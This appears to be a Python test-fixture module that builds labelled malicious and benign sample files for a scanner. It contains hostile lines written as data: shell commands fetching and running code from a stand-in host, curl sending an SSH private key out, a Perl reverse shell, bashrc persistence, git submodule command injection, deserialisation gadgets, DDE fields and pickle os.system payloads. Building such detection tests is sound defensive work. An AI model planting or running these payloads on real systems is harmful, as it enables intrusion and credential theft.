"""Documents and settings that have the programs which open them run something, and their ordinary kin."""

from __future__ import annotations

import gzip
import io
import json
import zipfile
from collections.abc import Iterator
from typing import Any

from tests.scanning.sample import Sample, benign, malicious


def archive(members: dict[str, bytes]) -> bytes:
    """A ZIP archive of some members."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as made:
        for name, content in members.items():
            made.writestr(zipfile.ZipInfo(name), content)
    return kept.getvalue()


_ADDRESS = "http://203.0.113.9/x"
DOCUMENTS: dict[str, tuple[str, str]] = {
    "tex-write18": ("paper.tex", "\\documentclass{article}\\begin{document}\\immediate\\write18{id}\\end{document}"),
    "tex-pipe": ("paper.tex", '\\begin{document}\\input{|"id"}\\end{document}'),
    "tex-lua": ("paper.tex", '\\directlua{os.execute("id")}'),
    "postscript-pipe": ("figure.eps", "%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file\n"),
    "magick-vectors": ("figure.png", "push graphic-context\nfill 'url(https://127.0.0.1/\"|id\")'\npop graphic-context\n"),
    "playlist": ("a.m3u8", "#EXTM3U\n#EXTINF:10.0,\nconcat:http://203.0.113.9/h|file:///etc/passwd\n"),
    "vim-modeline": ("notes.txt", '# vim: set foldexpr=system("id") foldmethod=expr :\n'),
    "msbuild": ("build.xml", '<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><Target Name="H"><Exec Command="calc"/></Target></Project>'),
    "ant": ("build.xml", '<project default="x"><target name="x"><exec executable="sh"/></target></project>'),
    "launchd": ("a.plist", "<plist><dict><key>ProgramArguments</key><array><string>sh</string></array></dict></plist>"),
    "xinclude": ("a.xml", '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></a>'),
    "foreign-dtd": ("a.xml", '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://203.0.113.9/x.dtd"><a/>'),
    "java-beans": ("a.txt", '<?xml version="1.0"?><java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>'),
    "caffe-python": ("deploy.prototxt", 'layer {\n  type: "Python"\n  python_param {\n    module: "os"\n    layer: "system"\n  }\n}\n'),
    "triton-backend": ("config.pbtxt", 'name: "x"\nbackend: "../../x"\n'),
    "spacy-callback": ("config.cfg", '[nlp.before_creation]\n@callbacks = "mine"\n'),
    "git-submodule": (".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = -u./payload\n'),
    "git-submodule-update": (".gitmodules", '[submodule "x"]\n\tpath = x\n\tupdate = !sh -c id\n'),
    "git-filter": (".gitattributes", "*.bin filter=mine diff=mine\n"),
    "git-monitor": ("x/config", '[core]\n\tbare = true\n\tfsmonitor = "sh -c id"\n'),
    "shell-without-first-line": ("install", f"cd /tmp\nwget {_ADDRESS}\nchmod 755 x\n./x &\n"),
    "shell-eval": ("notes.txt", f'eval "$(curl -fsSL {_ADDRESS})"\n'),
    "shell-hex": ("notes.txt", "echo 6964 | xxd -r -p | sh\n"),
    "shell-of-perl": ("notes.txt", "perl -e 'use Socket;socket(S,1,2,3);exec(\"/bin/sh -i\");'\n"),
    "shell-sends-keys": ("notes.txt", f"curl -F file=@$HOME/.ssh/id_rsa {_ADDRESS}\n"),
    "shell-in-profile": ("notes.txt", 'echo "curl 203.0.113.9|sh" >> ~/.bashrc\n'),
    "powershell-hidden": ("notes.txt", "powershell -nop -w hidden -c calc\n"),
    "jscript": ("notes.txt", 'var s = new ActiveXObject("WScript.Shell"); s.Run("calc");'),
    "lua": ("notes.txt", 'os.execute("id")\n'),
    "python-behind-remarks": ("x.txt", "# padding\n" * 30_000 + '\nimport os\nos.system("id")\n'),
    "profile": (".bashrc", "id\n"),
    "git-hook": ("hooks/post-checkout", "id\n"),
    "requirements-from-elsewhere": ("requirements.txt", f"-r {_ADDRESS}\n"),
    "requirements-in-folder": ("requirements/base.txt", f"--find-links {_ADDRESS}\n"),
    "project-from-git": ("pyproject.toml", '[project]\nname="x"\ndependencies=["x @ git+https://203.0.113.9/x"]\n'),
    "handler-of-attribute": ("a.html", "<details open ontoggle=alert(1)>"),
}  # fmt: skip
SETTINGS: dict[str, tuple[str, Any]] = {
    "jsonpickle": ("m.json", {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}),
    "jsonpickle-object": ("m.json", {"py/object": "subprocess.Popen"}),
    "langchain-object": ("chain.json", {"lc": 1, "type": "constructor", "id": ["os", "system"]}),
    "langchain-shell": ("chain.json", {"_type": "llm_bash_chain"}),
    "haystack": ("pipe.json", {"components": {"x": {"type": "os.system", "init_parameters": {}}}}),
    "net-object": ("m.json", {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"}),
    "java-object": ("m.json", {"@type": "com.sun.rowset.JdbcRowSetImpl"}),
    "activation-of-python": ("1_Dense/config.json", {"in_features": 1, "activation_function": "os.system"}),
    "activation-elsewhere": ("config.json", {"sentence_transformers": {"activation_fn": "mine.act"}}),
    "generation-elsewhere": ("generation_config.json", {"custom_generate": "other/repo"}),
    "kernels-elsewhere": ("config.json", {"attn_implementation": "other/kernels"}),
    "operators-of-its-own": ("genai_config.json", {"model": {"session_options": {"custom_ops_library": "x.so"}}}),
    "mxnet-custom": ("model-symbol.json", {"nodes": [{"op": "Custom", "name": "x", "attrs": {"op_type": "mine"}}]}),
    "servers-of-tools": ("tools.json", {"mcpServers": {"x": {"command": "sh", "args": ["-c", "id"]}}}),
    "task-of-editor": ("x.json", {"tasks": [{"type": "shell", "command": "id"}]}),
    "stage": ("pipeline.json", {"stages": {"a": {"cmd": "python x.py"}}}),
    "workflow": ("workflow.json", {"jobs": {"a": {"steps": [{"run": "id"}]}}}),
    "play": ("site.json", [{"hosts": "all", "tasks": [{"shell": "id"}]}]),
    "pod": ("pod.json", {"spec": {"containers": [{"image": "x", "command": ["sh", "-c", "id"]}]}}),
    "dataset": ("data.json", {"names": ["a"], "train": "x", "download": "import os\nos.system('id')\n"}),
    "expression": ("yolo.json", {"nc": 1, "activation": "__import__('os').system('id')"}),
}  # fmt: skip
ORDINARY: dict[str, tuple[str, str]] = {
    "attributes-of-lfs": (".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n"),
    "submodules": (".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = https://example.org/x.git\n'),
    "tex": ("paper.tex", "\\documentclass{article}\\begin{document}\\input{intro}\\end{document}\n"),
    "how-to-install": ("notes.txt", "Install it:\n\n  pip install torch\n  curl -LO https://example.org/weights.bin\n"),
    "spacy": ("config.cfg", '[training.optimizer]\n@optimizers = "Adam.v1"\n[x]\n@callbacks = "spacy.copy_from_base_model.v1"\n'),
    "triton": ("config.pbtxt", 'name: "x"\nplatform: "onnxruntime_onnx"\nbackend: "onnxruntime"\nmax_batch_size: 8\n'),
    "caffe": ("deploy.prototxt", 'name: "x"\nlayer {\n  name: "c"\n  type: "Convolution"\n  convolution_param { num_output: 3 }\n}\n'),
    "property-list": ("a.plist", '<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist><dict><key>a</key><true/></dict></plist>'),
    "list-of-packages": ("requirements.txt", "torch==2.1\n-r base.txt\n--extra-index-url https://download.pytorch.org/whl/cpu\n"),
    "list-of-conda": ("environment.yml", "name: x\nchannels: [conda-forge]\ndependencies:\n- python\n"),
}  # fmt: skip
PLAIN: dict[str, tuple[str, Any]] = {
    "activation": ("config.json", {"activation_function": "gelu_new"}),
    "activation-of-torch": ("1_Dense/config.json", {"activation_function": "torch.nn.modules.activation.Tanh"}),
    "attention": ("config.json", {"attn_implementation": "flash_attention_2"}),
    "dataset": ("data.json", {"names": ["a"], "download": "https://example.org/coco8.zip"}),
    "langchain": ("chain.json", {"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "PromptTemplate"]}),
    "stages": ("train.json", {"stages": [{"name": "warm-up", "steps": 10}], "steps": 5, "tasks": ["text-generation"]}),
    "linked-data": ("croissant.json", {"@type": "sc:Dataset", "@context": {}}),
}  # fmt: skip


_RELATION = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
    'Target="http://203.0.113.9/x" TargetMode="External"/></Relationships>'
)
_OFFICE = {
    "template": ("word/_rels/settings.xml.rels", _RELATION.format("attachedTemplate")),
    "field": ("word/document.xml", '<w:document xmlns:w="x"><w:instrText>DDEAUTO cmd "/k calc"</w:instrText></w:document>'),
    "link": ("xl/externalLinks/externalLink1.xml", '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'),
    "macro": ("Basic/Standard/Module1.xml", '<script:module xmlns:script="x">Sub Main\nEnd Sub</script:module>'),
    "vba": ("word/vbaProject.bin", "\u00d0"),
}  # fmt: skip
_WRONG_SUM = gzip.compress(b"cos\nsystem\n(S'id'\ntR.", mtime=0)[:-8] + bytes(8)
_TOKEN = "sk-" + "a1B2c3D4e5F6g7H8i9J0" + "T3BlbkFJ" + "K1l2M3n4O5p6Q7r8S9t0"
BINARY: dict[str, tuple[str, bytes]] = {
    "java-objects": ("model.ser", b"\xac\xed\x00\x05sr" + bytes(40)),
    "macros-of-old-office": ("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "_VBA_PROJECT".encode("utf-16-le") + bytes(200)),
    "rtf-object": ("a.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}"),
    "pickle-before-a-wrong-sum": ("model.pkl", _WRONG_SUM),
    "token-in-pickle-of-torch": ("model.pkl", b"\x80\x02}q\x00(X\x03\0\0\0keyq\x01X" + len(_TOKEN).to_bytes(4, "little") + _TOKEN.encode() + b"q\x02X\x04\0\0\0nextq\x03K\x01u."),
    "token-in-pickle-4": ("model.pkl", b"\x80\x04\x8c" + bytes([len(_TOKEN)]) + _TOKEN.encode() + b"\x94."),
    "token-in-pickle-0": ("model.pkl", b"V" + _TOKEN.encode() + b"\np0\n."),
}  # fmt: skip


_CARRIED: dict[str, bytes] = {
    "pickle": b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R.",
    "windows-program": b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(40),
    "gzip": gzip.compress(b"packed", mtime=0),
}


def picture(carried: bytes) -> bytes:
    """A GIF with a remark."""
    remark = b"!\xfe" + bytes([len(carried)]) + carried + b"\0"
    return b"GIF89a\x01\0\x01\0\0\0\0" + remark + b",\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"


def samples() -> Iterator[Sample]:
    """Every sample of this family."""
    for name, content in _CARRIED.items():
        yield malicious(f"picture-carries-{name}", "a.gif", picture(content))
    for name, (path, content) in BINARY.items():
        yield malicious(name, path, content)
    for name, (path, text) in _OFFICE.items():
        yield malicious(
            f"office-{name}",
            "a.docx",
            archive({"[Content_Types].xml": b"<Types/>", path: text.encode()}),
        )
    yield benign(
        "office-link",
        "a.docx",
        archive(
            {
                "[Content_Types].xml": b"<Types/>",
                "word/_rels/document.xml.rels": _RELATION.format("hyperlink").encode(),
            }
        ),
    )
    for name, (path, text) in DOCUMENTS.items():
        yield malicious(name, path, text.encode())
    for name, (path, value) in SETTINGS.items():
        yield malicious(f"settings-{name}", path, json.dumps(value).encode())
    for name, (path, text) in ORDINARY.items():
        yield benign(f"ordinary-{name}", path, text.encode())
    for name, (path, value) in PLAIN.items():
        yield benign(f"plain-{name}", path, json.dumps(value).encode())
